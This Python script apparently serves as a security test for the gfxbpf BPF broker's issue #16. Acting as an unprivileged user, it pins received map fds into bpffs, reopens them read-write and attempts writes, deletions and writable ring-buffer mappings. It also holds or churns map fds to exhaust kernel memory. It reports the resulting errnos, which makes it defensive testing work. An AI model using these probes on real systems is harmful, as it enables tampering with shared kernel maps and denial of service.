"""What a user can do with the map fds the broker hands her (issue #16, findings 1, 2).

Run as a test user with the venv python, next to rawclient.py; prints one JSON line:

    python mapattack.py SOCKET pin BPFFS PROGRAMS_JSON
        attach each program ({"name", "scope"}; ucalls gets this process and
        libc getpid), pin every map fd received into the bpffs BPFFS, open
        each pin again with flags 0 (read-write) and try every write: update,
        delete of each key, batch delete; ring buffers: writable mappings of
        the producer page and the data. Reports the errno of each attempt.
    python mapattack.py SOCKET retain N [PAUSE]
        attach and detach execsnoop (own ring buffer) N times, keeping every
        map fd, PAUSE seconds apart; stops at the first refusal. Reports how
        many attaches the broker allowed, the refusal, and the kernel's
        `memlock:` of the held maps (their kernel memory, from /proc/self/fdinfo).
    python mapattack.py SOCKET churn N
        the same, closing the fds after each detach: a tight create/drop loop.

obj_pin / obj_get are importable (BPF_OBJ_PIN / BPF_OBJ_GET, which gfxbpf never uses).
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import struct
import sys
from typing import Any

from gfxbpf.bpf import sysattr
from gfxbpf.bpf import syscall as bpfsys
from gfxbpf.proto import gfxbpf_pb2 as pb

BPF_OBJ_PIN = 6
BPF_OBJ_GET = 7
BPF_MAP_DELETE_BATCH = 27
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
MARKER = b"mallory"  # what she tries to write into shared maps

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.syscall.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]


def _bpf(cmd: int, attr: bytearray) -> int:
    buf = (ctypes.c_ubyte * len(attr)).from_buffer(attr)
    ret = _libc.syscall(bpfsys.SYS_BPF, cmd, ctypes.addressof(buf), len(attr))
    if ret < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"bpf cmd {cmd}: {os.strerror(err)}")
    return ret


def obj_pin(fd: int, path: str) -> None:
    p = ctypes.create_string_buffer(path.encode())
    attr = bytearray(sysattr.ATTR_SIZE)
    struct.pack_into("<QI", attr, 0, ctypes.addressof(p), fd)
    _bpf(BPF_OBJ_PIN, attr)


def obj_get(path: str, flags: int = 0) -> int:
    """A new fd for the pinned object; flags 0 asks for read-write."""
    p = ctypes.create_string_buffer(path.encode())
    attr = bytearray(sysattr.ATTR_SIZE)
    struct.pack_into("<QII", attr, 0, ctypes.addressof(p), 0, flags)
    return _bpf(BPF_OBJ_GET, attr)


def delete_batch(fd: int, keys: bytes, count: int) -> None:
    kbuf = ctypes.create_string_buffer(keys, max(len(keys), 1))
    attr = bytearray(sysattr.ATTR_SIZE)
    struct.pack_into("<QQQQII", attr, 0, 0, 0, ctypes.addressof(kbuf), 0, count, fd)
    _bpf(BPF_MAP_DELETE_BATCH, attr)


def _errname(e: OSError) -> str:
    n = e.errno or 0
    return errno.errorcode.get(n, "ENOTSUPP" if n == bpfsys.ENOTSUPP else str(n))


def attempt(fn: Any, *args: Any) -> str:
    """'ok' if the call went through, else the errno's name."""
    try:
        fn(*args)
    except OSError as e:
        return _errname(e)
    return "ok"


def write_attempts(fd: int, info: bpfsys.MapInfo) -> dict[str, str]:
    """Every write the syscall side offers, on a map fd opened read-write."""
    percpu = info.type in (5, 6, 10)  # per-CPU hash, array, LRU hash
    vsize = ((info.value_size + 7) & ~7) * bpfsys.possible_cpus() if percpu else info.value_size
    keys: list[bytes] = []
    key = None
    while len(keys) < 64:
        key = bpfsys.map_get_next_key(fd, key, info.key_size)
        if key is None:
            break
        keys.append(key)
    out = {
        "insert": attempt(
            bpfsys.map_update_elem, fd, MARKER.ljust(info.key_size, b"\0"), b"\x07" * vsize
        ),
        "delete": ",".join(sorted({attempt(bpfsys.map_delete_elem, fd, k) for k in keys}))
        or "no keys",
        "delete_batch": attempt(delete_batch, fd, b"".join(keys), len(keys)) if keys else "no keys",
    }
    if keys:
        out["overwrite"] = attempt(bpfsys.map_update_elem, fd, keys[0], b"\0" * vsize)
    return out


def ring_attempts(fd: int, info: bpfsys.MapInfo) -> dict[str, str]:
    """A ring buffer fd opened read-write: no elements, and only page 0 maps writable."""
    page = mmap.PAGESIZE
    out = {
        "insert": attempt(bpfsys.map_update_elem, fd, b"", b""),
        "delete": attempt(bpfsys.map_delete_elem, fd, b""),
    }
    for what, offset, length in (("producer_page", page, page), ("data", 2 * page, page)):
        try:
            m = mmap.mmap(fd, length, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, 0, offset)
        except OSError as e:
            out[f"mmap_{what}_writable"] = _errname(e)
        else:
            m.close()
            out[f"mmap_{what}_writable"] = "ok"
    return out


def pin(sock: str, bpffs: str, programs: list[dict[str, Any]]) -> dict[str, Any]:
    from rawclient import SCOPES, Failed, RawClient

    c = RawClient(sock)
    result: dict[str, Any] = {"maps": {}, "refused": {}, "pins": []}
    for p in programs:
        kw: dict[str, Any] = {"name": p["name"], "scope": SCOPES[p.get("scope", "")]}
        lib_fds: tuple[int, ...] = ()
        if p["name"] == "ucalls":  # the library goes as an fd she opened herself
            kw["params"] = pb.AttachParams(
                pid=os.getpid(), library=LIBC, functions=["getpid"], library_fd_index=0
            )
            lib_fds = (os.open(LIBC, os.O_RDONLY | os.O_CLOEXEC),)
        try:
            a = c.attach(send_fds=lib_fds, **kw)
        except Failed as e:
            result["refused"][p["name"]] = e.err.message
            continue
        finally:
            for fd in lib_fds:
                os.close(fd)
        os.getpid()  # something for ucalls to count
        fds = c.attachments[a.attachment_id][1]
        for m in a.maps:
            fd = fds[m.fd_index]
            path = os.path.join(bpffs, f"{p['name']}-{m.name}")
            obj_pin(fd, path)
            result["pins"].append(path)
            again = obj_get(path, 0)
            try:
                info = bpfsys.map_info(again)
                same = info.id == bpfsys.map_info(fd).id
                tries = ring_attempts if info.type == 27 else write_attempts
                result["maps"][f"{p['name']}/{m.name}"] = {
                    "type": info.type,
                    "same_map": same,
                    **tries(again, info),
                }
            finally:
                os.close(again)
    return result


def _memlock(fd: int) -> int:
    with open(f"/proc/self/fdinfo/{fd}") as f:
        for line in f:
            if line.startswith("memlock:"):
                return int(line.split()[1])
    return 0


def retain(sock: str, n: int, keep: bool = True, pause: float = 0.0) -> dict[str, Any]:
    """keep=False: close each attachment's fds after detaching (a create/drop loop)."""
    import time

    from rawclient import SCOPES, Failed, RawClient

    c = RawClient(sock)
    held: list[int] = []
    allowed = 0
    refusal: dict[str, str] | None = None
    for _ in range(n):
        try:
            a = c.attach(name="execsnoop", scope=SCOPES["self"])
        except Failed as e:
            refusal = {
                "code": pb.ErrorCode.Name(e.err.code),
                "message": e.err.message,
                "rule": e.err.rule,
            }
            break
        allowed += 1
        # Detach by hand: RawClient.detach would close the fds she keeps.
        c.call(detach=pb.DetachRequest(attachment_id=a.attachment_id))
        fds = c.attachments.pop(a.attachment_id)[1]
        if keep:
            held.extend(fds)
        else:
            for fd in fds:
                os.close(fd)
        time.sleep(pause)
    return {
        "allowed": allowed,
        "refusal": refusal,
        "held_fds": len(held),
        "held_memlock": sum(_memlock(fd) for fd in held),
    }


def main() -> None:
    sock, mode = sys.argv[1], sys.argv[2]
    if mode == "pin":
        out = pin(sock, sys.argv[3], json.loads(sys.argv[4]))
    elif mode == "retain":
        out = retain(sock, int(sys.argv[3]), pause=float(sys.argv[4]) if sys.argv[4:] else 0.0)
    elif mode == "churn":
        out = retain(sock, int(sys.argv[3]), keep=False)
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
